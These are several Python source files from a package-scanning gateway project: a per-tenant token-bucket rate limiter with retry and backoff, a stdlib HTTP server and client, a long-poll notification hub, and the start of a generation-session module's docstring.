__all__ = ["DEFAULT_BUCKETS", "LatencyHistogram", "LatencyTracker"]
