"""Per-tenant rate limiting and retry/backoff primitives.

The gateway admits requests through a classic :class:`TokenBucket` per
tenant: a burst of ``capacity`` requests is always allowed, sustained load
is capped at ``refill_per_second``, and a rejected request learns exactly
how long to wait (``retry_after``) instead of guessing.  The clock is
injectable so quota behaviour is tested deterministically — no sleeps.

Clients pair the bucket with :class:`Backoff` (bounded exponential delays,
no jitter, so retry schedules are reproducible) and the
:func:`retry_with_backoff` / :func:`retry_sync` helpers, which honour the
server-provided ``retry_after`` when it is longer than the local backoff.
"""

from __future__ import annotations

import asyncio
import inspect
import math
import threading
import time
from dataclasses import dataclass
from typing import Callable, Optional, Tuple

#: Injectable time source; only deltas matter for quota math.
Clock = Callable[[], float]


class RateLimited(Exception):
    """A request was rejected by a quota; carries the 429-style payload."""

    def __init__(self, message: str, retry_after: float = 0.0) -> None:
        super().__init__(message)
        self.retry_after = max(0.0, retry_after)

    def to_dict(self) -> dict:
        return {
            "error": str(self),
            "retry_after": (
                round(self.retry_after, 6)
                if math.isfinite(self.retry_after)
                else None
            ),
        }


class TokenBucket:
    """Token bucket with an injectable clock.

    ``capacity`` bounds the burst, ``refill_per_second`` the sustained
    rate.  ``try_acquire`` never blocks: it either grants the tokens or
    reports how many seconds of refill would cover the deficit (``inf``
    when the bucket never refills), which the gateway surfaces to clients
    as ``retry_after``.  Thread-safe — admission happens on the event loop
    while executor threads may probe the same tenant's bucket.
    """

    def __init__(
        self,
        capacity: float,
        refill_per_second: float,
        clock: Optional[Clock] = None,
    ) -> None:
        if capacity <= 0:
            raise ValueError("capacity must be positive")
        if refill_per_second < 0:
            raise ValueError("refill_per_second cannot be negative")
        self.capacity = float(capacity)
        self.refill_per_second = float(refill_per_second)
        self._clock = clock or time.monotonic
        self._tokens = float(capacity)
        self._updated = self._clock()
        self._lock = threading.Lock()

    def _refill_locked(self) -> None:
        now = self._clock()
        elapsed = max(0.0, now - self._updated)
        self._updated = now
        if elapsed and self.refill_per_second:
            self._tokens = min(
                self.capacity, self._tokens + elapsed * self.refill_per_second
            )

    def try_acquire(self, tokens: float = 1.0) -> Tuple[bool, float]:
        """Take ``tokens`` if available; returns ``(granted, retry_after)``."""
        if tokens <= 0:
            raise ValueError("tokens must be positive")
        with self._lock:
            self._refill_locked()
            if tokens <= self._tokens + 1e-12:
                self._tokens -= tokens
                return True, 0.0
            deficit = tokens - self._tokens
            if self.refill_per_second <= 0:
                return False, math.inf
            return False, deficit / self.refill_per_second

    def acquire_or_raise(self, tokens: float = 1.0, what: str = "request") -> None:
        granted, retry_after = self.try_acquire(tokens)
        if not granted:
            raise RateLimited(
                f"{what} rejected: quota exhausted "
                f"(capacity {self.capacity:g}, {self.refill_per_second:g}/s)",
                retry_after=retry_after,
            )

    @property
    def available(self) -> float:
        """Tokens currently in the bucket (after a refill pass)."""
        with self._lock:
            self._refill_locked()
            return self._tokens


@dataclass(frozen=True)
class Backoff:
    """Bounded exponential backoff schedule (deterministic, no jitter)."""

    base: float = 0.1
    factor: float = 2.0
    max_delay: float = 5.0

    def delay(self, attempt: int) -> float:
        """Delay before retry ``attempt`` (1-based)."""
        if attempt < 1:
            raise ValueError("attempt is 1-based")
        return min(self.max_delay, self.base * self.factor ** (attempt - 1))


def _retry_wait(exc: RateLimited, backoff: Backoff, attempt: int) -> float:
    """How long to sleep after a rejection: the larger of the local backoff
    and the server's ``retry_after`` (when finite — an infinite retry_after
    means the quota never refills and retrying is pointless)."""
    wait = backoff.delay(attempt)
    if math.isfinite(exc.retry_after):
        wait = max(wait, exc.retry_after)
    return wait


async def retry_with_backoff(
    fn: Callable,
    attempts: int = 5,
    backoff: Optional[Backoff] = None,
    sleep: Optional[Callable] = None,
):
    """Call ``fn`` (sync or async), retrying :class:`RateLimited` rejections.

    Sleeps :func:`_retry_wait` between attempts via ``sleep`` (injectable
    for tests; defaults to :func:`asyncio.sleep`).  Re-raises the last
    rejection once ``attempts`` are exhausted, and immediately when
    ``retry_after`` is infinite.
    """
    if attempts < 1:
        raise ValueError("attempts must be positive")
    backoff = backoff or Backoff()
    sleep = sleep or asyncio.sleep
    for attempt in range(1, attempts + 1):
        try:
            result = fn()
            if inspect.isawaitable(result):
                result = await result
            return result
        except RateLimited as exc:
            if attempt == attempts or not math.isfinite(exc.retry_after):
                raise
            await sleep(_retry_wait(exc, backoff, attempt))
    raise AssertionError("unreachable")


def retry_sync(
    fn: Callable,
    attempts: int = 5,
    backoff: Optional[Backoff] = None,
    sleep: Callable[[float], None] = time.sleep,
):
    """Blocking twin of :func:`retry_with_backoff` for the HTTP client."""
    if attempts < 1:
        raise ValueError("attempts must be positive")
    backoff = backoff or Backoff()
    for attempt in range(1, attempts + 1):
        try:
            return fn()
        except RateLimited as exc:
            if attempt == attempts or not math.isfinite(exc.retry_after):
                raise
            sleep(_retry_wait(exc, backoff, attempt))
    raise AssertionError("unreachable")
