"""Thin HTTP/1.1 layer over asyncio streams, plus the blocking client.

No third-party web framework: :class:`GatewayHttpServer` parses requests
straight off an :func:`asyncio.start_server` stream pair and speaks JSON.
One connection serves one request (``Connection: close``) — the gateway's
push channel is the **long-poll** events endpoint, not connection reuse.

Routes (all JSON bodies)::

    GET  /healthz                                  liveness + job counts
    GET  /metrics                                  per-tenant queues + quota stats
    GET  /tenants                                  registered tenants
    POST /tenants          {name, quota?}          register (201; 409 dup)
    POST /v1/T/scan        {packages, label?}      queue a scan job (202)
    POST /v1/T/arena       {rounds?, label?}       queue arena rounds (202)
    POST /v1/T/generate    {label?}                open a streaming feed (202)
    POST /v1/T/generate/J/feed   {packages}        stream a batch into the feed
    POST /v1/T/generate/J/close                    close the feed -> generate
    GET  /v1/T/jobs                                the tenant's jobs
    GET  /v1/T/jobs/J?wait=S                       job status (optionally await)
    POST /v1/T/jobs/J/cancel                       cancel
    GET  /v1/T/events?after=N&wait=S               long-poll notifications

Quota rejections map to **429** with a ``Retry-After`` header and a
``retry_after`` field, the contract :func:`repro.gateway.ratelimit.retry_sync`
consumes on the client side.  :class:`GatewayClient` is the stdlib
(`http.client`) blocking client used by ``rulellm client``, the tests and
the CI smoke; :class:`ThreadedGateway` runs a whole app+server on a
background thread so synchronous code can drive a live gateway.
"""

from __future__ import annotations

import asyncio
import json
import math
import threading
import time
import urllib.parse
from typing import Iterable, List, Optional, Sequence, Tuple

from repro.corpus.package import Package, PackageFile, PackageMetadata
from repro.gateway.app import GatewayApp, GatewayConfig
from repro.gateway.ratelimit import Backoff, RateLimited, retry_sync
from repro.gateway.tenants import TenantQuota, UnknownTenant
from repro.obs.expo import render_prometheus
from repro.obs.metrics import get_registry
from repro.obs.trace import get_tracer

_PROMETHEUS_CONTENT_TYPE = "text/plain; version=0.0.4; charset=utf-8"
_REQUESTS = get_registry().counter(
    "repro_gateway_requests_total",
    "HTTP requests served, by method and status.",
    ("method", "status"),
)

_MAX_BODY = 64 * 1024 * 1024  # 64 MiB: scan batches carry whole packages
_MAX_HEADER_LINE = 16 * 1024

_STATUS_TEXT = {
    200: "OK",
    201: "Created",
    202: "Accepted",
    400: "Bad Request",
    404: "Not Found",
    405: "Method Not Allowed",
    409: "Conflict",
    413: "Payload Too Large",
    429: "Too Many Requests",
    500: "Internal Server Error",
    503: "Service Unavailable",
}


# -- wire format --------------------------------------------------------------------
def package_to_wire(package: Package) -> dict:
    """JSON-safe form of a :class:`Package` for scan/feed submissions."""
    return {
        "name": package.name,
        "version": package.version,
        "label": package.label,
        "ecosystem": package.ecosystem,
        "metadata": json.loads(package.metadata.to_json()),
        "files": [{"path": f.path, "content": f.content} for f in package.files],
    }


def package_from_wire(data: dict) -> Package:
    if not isinstance(data, dict) or "name" not in data:
        raise ValueError("package payload needs at least a 'name'")
    name = str(data["name"])
    version = str(data.get("version", "0.0.0"))
    metadata = data.get("metadata")
    if isinstance(metadata, dict):
        meta = PackageMetadata.from_json(json.dumps(metadata))
    else:
        meta = PackageMetadata(name=name, version=version)
    package = Package(
        name=name,
        version=version,
        metadata=meta,
        label=str(data.get("label", "benign")),
        ecosystem=str(data.get("ecosystem", "pypi")),
    )
    for entry in data.get("files", []):
        package.files.append(
            PackageFile(path=str(entry["path"]), content=str(entry["content"]))
        )
    return package


def _packages_from_body(body: dict) -> List[Package]:
    raw = body.get("packages")
    if not isinstance(raw, list) or not raw:
        raise ValueError("body needs a non-empty 'packages' list")
    return [package_from_wire(entry) for entry in raw]


# -- server -------------------------------------------------------------------------
class GatewayHttpServer:
    """Serve a :class:`GatewayApp` over HTTP on asyncio streams."""

    def __init__(
        self, app: GatewayApp, host: str = "127.0.0.1", port: int = 0
    ) -> None:
        self.app = app
        self.host = host
        self.port = port
        self._server: Optional[asyncio.AbstractServer] = None

    async def start(self) -> int:
        self._server = await asyncio.start_server(self._handle, self.host, self.port)
        self.port = self._server.sockets[0].getsockname()[1]
        return self.port

    async def stop(self) -> None:
        if self._server is not None:
            self._server.close()
            await self._server.wait_closed()
            self._server = None

    @property
    def url(self) -> str:
        return f"http://{self.host}:{self.port}"

    # -- connection handling --------------------------------------------------------
    async def _handle(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        status, payload, extra_headers = 500, {"error": "internal error"}, {}
        method = "?"
        try:
            request = await self._read_request(reader)
            if request is None:
                writer.close()
                return
            method, path, query, body, headers = request
            with get_tracer().span(
                "gateway.request", method=method, path=path
            ) as span:
                status, payload, extra_headers = await self._route(
                    method, path, query, body, headers
                )
                span.set_attr("status", status)
        except _HttpError as exc:
            status, payload, extra_headers = exc.status, {"error": str(exc)}, {}
        except RateLimited as exc:
            status, payload, extra_headers = 429, exc.to_dict(), _retry_headers(exc)
        except (UnknownTenant, LookupError) as exc:
            status, payload, extra_headers = 404, {"error": str(exc)}, {}
        except ValueError as exc:
            status, payload, extra_headers = 400, {"error": str(exc)}, {}
        except RuntimeError as exc:
            status, payload, extra_headers = 503, {"error": str(exc)}, {}
        except Exception as exc:  # the server must not die with a connection
            status, payload, extra_headers = 500, {
                "error": f"{type(exc).__name__}: {exc}"
            }, {}
        _REQUESTS.inc(method=method, status=str(status))
        try:
            await self._respond(writer, status, payload, extra_headers)
        except (ConnectionError, OSError):
            pass
        finally:
            writer.close()

    async def _read_request(
        self, reader: asyncio.StreamReader
    ) -> Optional[Tuple[str, str, dict, dict, dict]]:
        try:
            request_line = await reader.readline()
        except (ConnectionError, asyncio.LimitOverrunError):
            return None
        if not request_line.strip():
            return None
        try:
            method, target, _ = request_line.decode("latin-1").split(" ", 2)
        except ValueError:
            raise _HttpError(400, "malformed request line")
        headers: dict[str, str] = {}
        while True:
            line = await reader.readline()
            if len(line) > _MAX_HEADER_LINE:
                raise _HttpError(400, "header line too long")
            if line in (b"\r\n", b"\n", b""):
                break
            name, _, value = line.decode("latin-1").partition(":")
            headers[name.strip().lower()] = value.strip()
        length = int(headers.get("content-length", "0") or "0")
        if length > _MAX_BODY:
            raise _HttpError(413, f"body exceeds {_MAX_BODY} bytes")
        body: dict = {}
        if length:
            raw = await reader.readexactly(length)
            try:
                body = json.loads(raw.decode("utf-8"))
            except (UnicodeDecodeError, json.JSONDecodeError) as exc:
                raise _HttpError(400, f"invalid JSON body: {exc}")
            if not isinstance(body, dict):
                raise _HttpError(400, "JSON body must be an object")
        parsed = urllib.parse.urlsplit(target)
        query = {
            key: values[-1]
            for key, values in urllib.parse.parse_qs(parsed.query).items()
        }
        return method.upper(), parsed.path, query, body, headers

    async def _respond(
        self,
        writer: asyncio.StreamWriter,
        status: int,
        payload,
        extra_headers: Optional[dict] = None,
    ) -> None:
        # a str payload is served verbatim (the Prometheus text lane);
        # everything else stays the JSON document it always was
        if isinstance(payload, str):
            data = payload.encode("utf-8")
            content_type = "text/plain; charset=utf-8"
        else:
            data = json.dumps(payload, sort_keys=True).encode("utf-8")
            content_type = "application/json"
        headers = {
            "Content-Type": content_type,
            "Content-Length": str(len(data)),
            "Connection": "close",
        }
        headers.update(extra_headers or {})
        head = [f"HTTP/1.1 {status} {_STATUS_TEXT.get(status, 'Unknown')}"]
        head.extend(f"{name}: {value}" for name, value in headers.items())
        writer.write(("\r\n".join(head) + "\r\n\r\n").encode("latin-1") + data)
        await writer.drain()

    # -- routing --------------------------------------------------------------------
    async def _route(
        self, method: str, path: str, query: dict, body: dict, headers: dict
    ) -> Tuple[int, object, dict]:
        parts = [part for part in path.split("/") if part]
        app = self.app

        if method == "GET" and parts == ["healthz"]:
            return 200, {
                "ok": True,
                "tenants": len(app.tenants),
                "jobs": app.jobs.counts(),
                "accepting": app.jobs.accepting,
            }, {}

        if method == "GET" and parts == ["metrics"]:
            # content negotiation: the JSON document stays the default (and
            # byte-stable for existing clients); Prometheus text is opt-in
            # via ?format=prometheus or an Accept: text/plain header
            fmt = query.get("format", "")
            accept = headers.get("accept", "")
            if fmt == "prometheus" or (not fmt and "text/plain" in accept):
                return 200, render_prometheus(get_registry()), {
                    "Content-Type": _PROMETHEUS_CONTENT_TYPE
                }
            if fmt == "snapshot":
                return 200, get_registry().snapshot(), {}
            return 200, app.metrics(), {}

        if method == "GET" and len(parts) == 2 and parts[0] == "trace":
            found = app.trace(parts[1])
            if found is None:
                raise _HttpError(404, f"unknown trace {parts[1]!r}")
            return 200, found, {}

        if parts == ["tenants"]:
            if method == "GET":
                return 200, {
                    "tenants": [t.to_dict() for t in app.tenants.tenants()]
                }, {}
            if method == "POST":
                name = body.get("name", "")
                quota = (
                    TenantQuota.from_dict(body["quota"])
                    if isinstance(body.get("quota"), dict)
                    else None
                )
                try:
                    tenant = app.register_tenant(name, quota)
                except ValueError as exc:
                    if "already registered" in str(exc):
                        return 409, {"error": str(exc)}, {}
                    raise
                return 201, tenant.to_dict(), {}
            raise _HttpError(405, f"{method} not allowed on /tenants")

        if len(parts) >= 2 and parts[0] == "v1":
            tenant_name = parts[1]
            rest = parts[2:]
            return await self._route_tenant(method, tenant_name, rest, query, body)

        raise _HttpError(404, f"no route for {method} {path}")

    async def _route_tenant(
        self, method: str, tenant: str, rest: list, query: dict, body: dict
    ) -> Tuple[int, dict, dict]:
        app = self.app

        if rest == ["scan"] and method == "POST":
            packages = _packages_from_body(body)
            job = await app.submit_scan(tenant, packages, label=body.get("label", ""))
            return 202, job.to_dict(), {}

        if rest == ["arena"] and method == "POST":
            job = await app.submit_arena(
                tenant,
                rounds=int(body.get("rounds", 1)),
                label=body.get("label", ""),
            )
            return 202, job.to_dict(), {}

        if rest == ["generate"] and method == "POST":
            job = await app.open_generation(tenant, label=body.get("label", ""))
            return 202, job.to_dict(), {}

        if len(rest) == 3 and rest[0] == "generate" and method == "POST":
            job_id = rest[1]
            if rest[2] == "feed":
                fed = await app.feed_generation(
                    tenant, job_id, _packages_from_body(body)
                )
                return 200, {"job": job_id, "fed": fed}, {}
            if rest[2] == "close":
                job = await app.close_generation(tenant, job_id)
                return 200, job.to_dict(), {}

        if rest == ["jobs"] and method == "GET":
            return 200, {
                "jobs": [job.to_dict(include_result=False) for job in app.tenant_jobs(tenant)]
            }, {}

        if len(rest) == 2 and rest[0] == "jobs" and method == "GET":
            wait = float(query.get("wait", "0") or "0")
            if wait > 0:
                try:
                    job = await app.await_job(tenant, rest[1], timeout=wait)
                except TimeoutError:
                    job = app.job(tenant, rest[1])
            else:
                job = app.job(tenant, rest[1])
            return 200, job.to_dict(), {}

        if len(rest) == 3 and rest[:1] == ["jobs"] and rest[2] == "cancel" and method == "POST":
            job = app.cancel_job(tenant, rest[1])
            return 200, job.to_dict(), {}

        if rest == ["events"] and method == "GET":
            after = int(query.get("after", "0") or "0")
            wait = float(query.get("wait", "0") or "0")
            if wait > 0:
                notes = await app.wait_notifications(tenant, after, timeout=wait)
            else:
                app.tenant(tenant)
                notes = app.hub.pending(tenant, after)
            cursor = notes[-1].seq if notes else max(after, 0)
            return 200, {
                "notifications": [note.to_dict() for note in notes],
                "cursor": cursor,
            }, {}

        raise _HttpError(404, f"no route for {method} /v1/{tenant}/{'/'.join(rest)}")


class _HttpError(Exception):
    def __init__(self, status: int, message: str) -> None:
        super().__init__(message)
        self.status = status


def _retry_headers(exc: RateLimited) -> dict:
    if not math.isfinite(exc.retry_after):
        return {}
    return {"Retry-After": str(max(1, math.ceil(exc.retry_after)))}


# -- blocking client ----------------------------------------------------------------
class GatewayError(RuntimeError):
    """Non-429 HTTP error from the gateway."""

    def __init__(self, status: int, message: str) -> None:
        super().__init__(f"HTTP {status}: {message}")
        self.status = status


class GatewayClient:
    """Synchronous stdlib client for the gateway's HTTP API.

    Raises :class:`~repro.gateway.ratelimit.RateLimited` on 429 (with the
    server's ``retry_after``) and :class:`GatewayError` on other failures,
    so callers can wire :func:`~repro.gateway.ratelimit.retry_sync` around
    any submission.
    """

    def __init__(self, base_url: str, timeout: float = 60.0) -> None:
        parsed = urllib.parse.urlsplit(base_url)
        if parsed.scheme not in ("http", ""):
            raise ValueError(f"unsupported scheme {parsed.scheme!r}")
        netloc = parsed.netloc or parsed.path  # accept "host:port" shorthand
        host, _, port = netloc.partition(":")
        self.host = host or "127.0.0.1"
        self.port = int(port) if port else 80
        self.timeout = timeout

    def _request(
        self,
        method: str,
        path: str,
        payload: Optional[dict] = None,
        timeout: Optional[float] = None,
    ) -> dict:
        import http.client

        connection = http.client.HTTPConnection(
            self.host, self.port, timeout=timeout or self.timeout
        )
        try:
            body = json.dumps(payload).encode("utf-8") if payload is not None else None
            connection.request(
                method,
                path,
                body=body,
                headers={"Content-Type": "application/json"} if body else {},
            )
            response = connection.getresponse()
            raw = response.read()
        finally:
            connection.close()
        data = json.loads(raw.decode("utf-8")) if raw else {}
        if response.status == 429:
            retry_after = data.get("retry_after")
            if retry_after is None:
                retry_after = float(response.getheader("Retry-After", "1") or "1")
            raise RateLimited(
                data.get("error", "rate limited"), retry_after=float(retry_after)
            )
        if response.status >= 400:
            raise GatewayError(response.status, data.get("error", "request failed"))
        return data

    def _request_text(
        self, path: str, accept: str, timeout: Optional[float] = None
    ) -> str:
        """GET a non-JSON document (the Prometheus exposition lane)."""
        import http.client

        connection = http.client.HTTPConnection(
            self.host, self.port, timeout=timeout or self.timeout
        )
        try:
            connection.request("GET", path, headers={"Accept": accept})
            response = connection.getresponse()
            raw = response.read()
        finally:
            connection.close()
        text = raw.decode("utf-8")
        if response.status >= 400:
            raise GatewayError(response.status, text.strip() or "request failed")
        return text

    # -- endpoints ------------------------------------------------------------------
    def health(self) -> dict:
        return self._request("GET", "/healthz")

    def metrics(self) -> dict:
        return self._request("GET", "/metrics")

    def metrics_text(self) -> str:
        """The Prometheus text exposition of the gateway's registry."""
        return self._request_text("/metrics?format=prometheus", "text/plain")

    def metrics_snapshot(self) -> dict:
        """The gateway's :class:`~repro.obs.MetricsRegistry` snapshot."""
        return self._request("GET", "/metrics?format=snapshot")

    def trace(self, trace_id: str) -> dict:
        """Span records of one trace (404 -> :class:`GatewayError`)."""
        return self._request("GET", f"/trace/{trace_id}")

    def tenants(self) -> List[dict]:
        return self._request("GET", "/tenants")["tenants"]

    def register_tenant(
        self, name: str, quota: Optional[TenantQuota] = None
    ) -> dict:
        payload: dict = {"name": name}
        if quota is not None:
            payload["quota"] = quota.to_dict()
        return self._request("POST", "/tenants", payload)

    def submit_scan(
        self, tenant: str, packages: Sequence[Package], label: str = ""
    ) -> dict:
        return self._request(
            "POST",
            f"/v1/{tenant}/scan",
            {
                "label": label,
                "packages": [package_to_wire(p) for p in packages],
            },
        )

    def submit_scan_with_retry(
        self,
        tenant: str,
        packages: Sequence[Package],
        label: str = "",
        attempts: int = 5,
        backoff: Optional[Backoff] = None,
    ) -> dict:
        return retry_sync(
            lambda: self.submit_scan(tenant, packages, label=label),
            attempts=attempts,
            backoff=backoff,
        )

    def open_generation(self, tenant: str, label: str = "") -> dict:
        return self._request("POST", f"/v1/{tenant}/generate", {"label": label})

    def feed_generation(
        self, tenant: str, job_id: str, packages: Iterable[Package]
    ) -> dict:
        return self._request(
            "POST",
            f"/v1/{tenant}/generate/{job_id}/feed",
            {"packages": [package_to_wire(p) for p in packages]},
        )

    def close_generation(self, tenant: str, job_id: str) -> dict:
        return self._request("POST", f"/v1/{tenant}/generate/{job_id}/close", {})

    def submit_arena(self, tenant: str, rounds: int = 1, label: str = "") -> dict:
        return self._request(
            "POST", f"/v1/{tenant}/arena", {"rounds": rounds, "label": label}
        )

    def job(self, tenant: str, job_id: str, wait: float = 0.0) -> dict:
        suffix = f"?wait={wait:g}" if wait > 0 else ""
        return self._request(
            "GET",
            f"/v1/{tenant}/jobs/{job_id}{suffix}",
            timeout=max(self.timeout, wait + 10.0),
        )

    def jobs(self, tenant: str) -> List[dict]:
        return self._request("GET", f"/v1/{tenant}/jobs")["jobs"]

    def wait_job(
        self, tenant: str, job_id: str, timeout: float = 120.0, poll: float = 2.0
    ) -> dict:
        """Block until the job reaches a terminal state (server-side waits
        of ``poll`` seconds each, so this is long-poll, not busy-poll)."""
        deadline = time.monotonic() + timeout
        while True:
            remaining = deadline - time.monotonic()
            if remaining <= 0:
                raise TimeoutError(f"job {job_id} still running after {timeout}s")
            job = self.job(tenant, job_id, wait=min(poll, max(0.1, remaining)))
            if job["state"] in ("done", "failed", "cancelled"):
                return job

    def cancel_job(self, tenant: str, job_id: str) -> dict:
        return self._request("POST", f"/v1/{tenant}/jobs/{job_id}/cancel", {})

    def events(self, tenant: str, after: int = 0, wait: float = 0.0) -> dict:
        query = f"after={after}"
        if wait > 0:
            query += f"&wait={wait:g}"
        return self._request(
            "GET",
            f"/v1/{tenant}/events?{query}",
            timeout=max(self.timeout, wait + 10.0),
        )


# -- threaded harness ---------------------------------------------------------------
class ThreadedGateway:
    """A live gateway (app + HTTP server) on a daemon thread.

    Lets synchronous code — tests, the example, ``rulellm client`` demos —
    drive a real server without managing an event loop.  ``stop()`` drains
    in-flight jobs before the loop exits.
    """

    def __init__(
        self,
        config: Optional[GatewayConfig] = None,
        host: str = "127.0.0.1",
        port: int = 0,
    ) -> None:
        self.config = config or GatewayConfig()
        self.host = host
        self.port = port
        self.app: Optional[GatewayApp] = None
        self._loop: Optional[asyncio.AbstractEventLoop] = None
        self._thread: Optional[threading.Thread] = None
        self._ready = threading.Event()
        self._stop: Optional[asyncio.Event] = None
        self._startup_error: Optional[BaseException] = None

    def start(self, timeout: float = 10.0) -> "ThreadedGateway":
        if self._thread is not None:
            raise RuntimeError("gateway thread already started")
        self._thread = threading.Thread(
            target=lambda: asyncio.run(self._main()), daemon=True
        )
        self._thread.start()
        if not self._ready.wait(timeout):
            raise TimeoutError("gateway thread did not come up")
        if self._startup_error is not None:
            raise RuntimeError("gateway failed to start") from self._startup_error
        return self

    async def _main(self) -> None:
        try:
            self._loop = asyncio.get_running_loop()
            self._stop = asyncio.Event()
            self.app = await GatewayApp(self.config).start()
            server = GatewayHttpServer(self.app, host=self.host, port=self.port)
            self.port = await server.start()
        except BaseException as exc:
            self._startup_error = exc
            self._ready.set()
            raise
        self._ready.set()
        try:
            await self._stop.wait()
        finally:
            await server.stop()
            await self.app.shutdown(drain=True)

    @property
    def url(self) -> str:
        return f"http://{self.host}:{self.port}"

    def client(self, timeout: float = 60.0) -> GatewayClient:
        return GatewayClient(self.url, timeout=timeout)

    def stop(self, timeout: float = 30.0) -> None:
        if self._thread is None:
            return
        if self._loop is not None and self._stop is not None:
            try:
                self._loop.call_soon_threadsafe(self._stop.set)
            except RuntimeError:
                pass  # loop already closed
        self._thread.join(timeout)
        self._thread = None
