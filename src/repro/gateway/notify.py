"""Per-tenant notification push: the bridge from sync events to async streams.

The registry's event bus and the scan service's re-scan deltas are
synchronous callbacks fired in whichever thread published (for gateway
jobs: an executor thread).  :class:`NotificationHub` turns them into
per-tenant **async subscription streams**: every event is appended to the
tenant's bounded backlog with a monotonically increasing ``seq``, waiters
are woken through the event loop (``call_soon_threadsafe`` when the
publisher is off-loop), and clients read with a cursor —
:meth:`NotificationHub.wait_for` returns everything after a sequence
number, blocking up to a timeout when nothing is new.  That one primitive
serves both in-process subscribers (:class:`Subscription`) and the HTTP
long-poll endpoint (``GET /v1/<tenant>/events?after=N&wait=T``), so
clients stop polling the registry for publishes.

Backlogs are bounded: a tenant that never reads loses its *oldest*
notifications (counted in ``dropped``), never the gateway's memory.
"""

from __future__ import annotations

import asyncio
import time
from collections import deque
from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.gateway.ratelimit import Clock


@dataclass
class Notification:
    """One pushed event: a registry publish, a re-scan delta, or job news."""

    seq: int
    tenant: str
    kind: str  # "publish" | "rescan" | "job" | "gateway"
    payload: dict = field(default_factory=dict)
    created_at: float = 0.0

    def to_dict(self) -> dict:
        return {
            "seq": self.seq,
            "tenant": self.tenant,
            "kind": self.kind,
            "payload": self.payload,
            "created_at": self.created_at,
        }


class _Channel:
    """One tenant's backlog + wakeup event."""

    def __init__(self, backlog: int) -> None:
        self.seq = 0
        self.events: "deque[Notification]" = deque(maxlen=backlog)
        self.wakeup = asyncio.Event()
        self.dropped = 0


class NotificationHub:
    """Thread-safe fan-in, per-tenant async fan-out of gateway events."""

    def __init__(self, backlog: int = 256, clock: Optional[Clock] = None) -> None:
        if backlog < 1:
            raise ValueError("backlog must be positive")
        self.backlog = backlog
        self._clock = clock or time.time
        self._channels: Dict[str, _Channel] = {}
        self._loop: Optional[asyncio.AbstractEventLoop] = None

    def bind(self, loop: asyncio.AbstractEventLoop) -> None:
        """Attach the hub to the gateway's event loop (enables cross-thread
        publishing; done once by :meth:`GatewayApp.start`)."""
        self._loop = loop

    def channel_stats(self, tenant: str) -> dict:
        channel = self._channel(tenant)
        return {
            "seq": channel.seq,
            "backlog": len(channel.events),
            "dropped": channel.dropped,
        }

    def _channel(self, tenant: str) -> _Channel:
        channel = self._channels.get(tenant)
        if channel is None:
            channel = self._channels[tenant] = _Channel(self.backlog)
        return channel

    # -- publishing (any thread) ----------------------------------------------------
    def publish(self, tenant: str, kind: str, payload: dict) -> None:
        """Append a notification and wake the tenant's waiters.

        Safe from any thread: off-loop publishers (registry callbacks run
        in executor threads) are trampolined onto the loop, which also
        serialises sequence numbering.
        """
        if self._loop is not None:
            try:
                running = asyncio.get_running_loop()
            except RuntimeError:
                running = None
            if running is not self._loop:
                self._loop.call_soon_threadsafe(
                    self._publish_now, tenant, kind, payload
                )
                return
        self._publish_now(tenant, kind, payload)

    def _publish_now(self, tenant: str, kind: str, payload: dict) -> None:
        channel = self._channel(tenant)
        if len(channel.events) == self.backlog:
            channel.dropped += 1  # the append below evicts the oldest
        channel.seq += 1
        channel.events.append(
            Notification(
                seq=channel.seq,
                tenant=tenant,
                kind=kind,
                payload=payload,
                created_at=self._clock(),
            )
        )
        channel.wakeup.set()

    # -- consuming (event loop) -----------------------------------------------------
    def current_seq(self, tenant: str) -> int:
        return self._channel(tenant).seq

    def pending(self, tenant: str, after_seq: int = 0) -> List[Notification]:
        """Backlogged notifications after ``after_seq`` — never blocks."""
        return [n for n in self._channel(tenant).events if n.seq > after_seq]

    async def wait_for(
        self, tenant: str, after_seq: int = 0, timeout: float = 5.0
    ) -> List[Notification]:
        """Notifications after ``after_seq``, waiting up to ``timeout`` for
        at least one to arrive; ``[]`` on timeout (the long-poll contract)."""
        channel = self._channel(tenant)
        loop = asyncio.get_running_loop()
        deadline = loop.time() + max(0.0, timeout)
        while True:
            # clear-then-check: a publish landing after the check sets the
            # event again, so the wait below returns immediately
            channel.wakeup.clear()
            items = self.pending(tenant, after_seq)
            if items:
                return items
            remaining = deadline - loop.time()
            if remaining <= 0:
                return []
            try:
                await asyncio.wait_for(channel.wakeup.wait(), remaining)
            except TimeoutError:
                return []

    def subscribe(self, tenant: str, from_start: bool = False) -> "Subscription":
        """A cursor-tracking stream over the tenant's notifications.

        Starts at the current sequence (push-only) unless ``from_start``
        replays whatever backlog is still retained.
        """
        after = 0 if from_start else self.current_seq(tenant)
        return Subscription(hub=self, tenant=tenant, cursor=after)


@dataclass
class Subscription:
    """A per-tenant notification stream with an explicit cursor."""

    hub: NotificationHub
    tenant: str
    cursor: int = 0

    async def next(self, timeout: float = 5.0) -> Optional[Notification]:
        """The next notification, or ``None`` when the wait times out."""
        batch = await self.hub.wait_for(self.tenant, self.cursor, timeout)
        if not batch:
            return None
        note = batch[0]
        self.cursor = note.seq
        return note

    async def collect(self, count: int, timeout: float = 5.0) -> List[Notification]:
        """Up to ``count`` notifications within one overall ``timeout``."""
        loop = asyncio.get_running_loop()
        deadline = loop.time() + max(0.0, timeout)
        collected: List[Notification] = []
        while len(collected) < count:
            remaining = deadline - loop.time()
            if remaining <= 0:
                break
            batch = await self.hub.wait_for(self.tenant, self.cursor, remaining)
            if not batch:
                break
            for note in batch[: count - len(collected)]:
                collected.append(note)
                self.cursor = note.seq
        return collected

    def drain(self) -> List[Notification]:
        """Everything already backlogged past the cursor — never blocks."""
        batch = self.hub.pending(self.tenant, self.cursor)
        if batch:
            self.cursor = batch[-1].seq
        return batch
