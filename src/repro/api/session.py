"""Streaming generation sessions that publish straight into the scan registry.

A :class:`GenerationSession` is the stateful front door to the RuleLLM
pipeline: packages are fed incrementally — batch by batch via
:meth:`GenerationSession.add_batch`, or as a backpressured stream drained
from a :class:`repro.scanserve.scheduler.BoundedQueue` via
:meth:`GenerationSession.consume` — and :meth:`GenerationSession.generate`
runs the stage chain over everything accumulated since the last run.  When
the session is bound to a :class:`repro.scanserve.registry.RulesetRegistry`,
each generated rule set auto-publishes as a new ruleset version with atomic
hot-swap, so a co-located :class:`repro.scanserve.service.ScanService` picks
up fresh rules with zero caller glue:

    service = ScanService()
    session = GenerationSession(registry=service.registry)
    session.add_batch(first_wave)
    session.add_batch(second_wave)
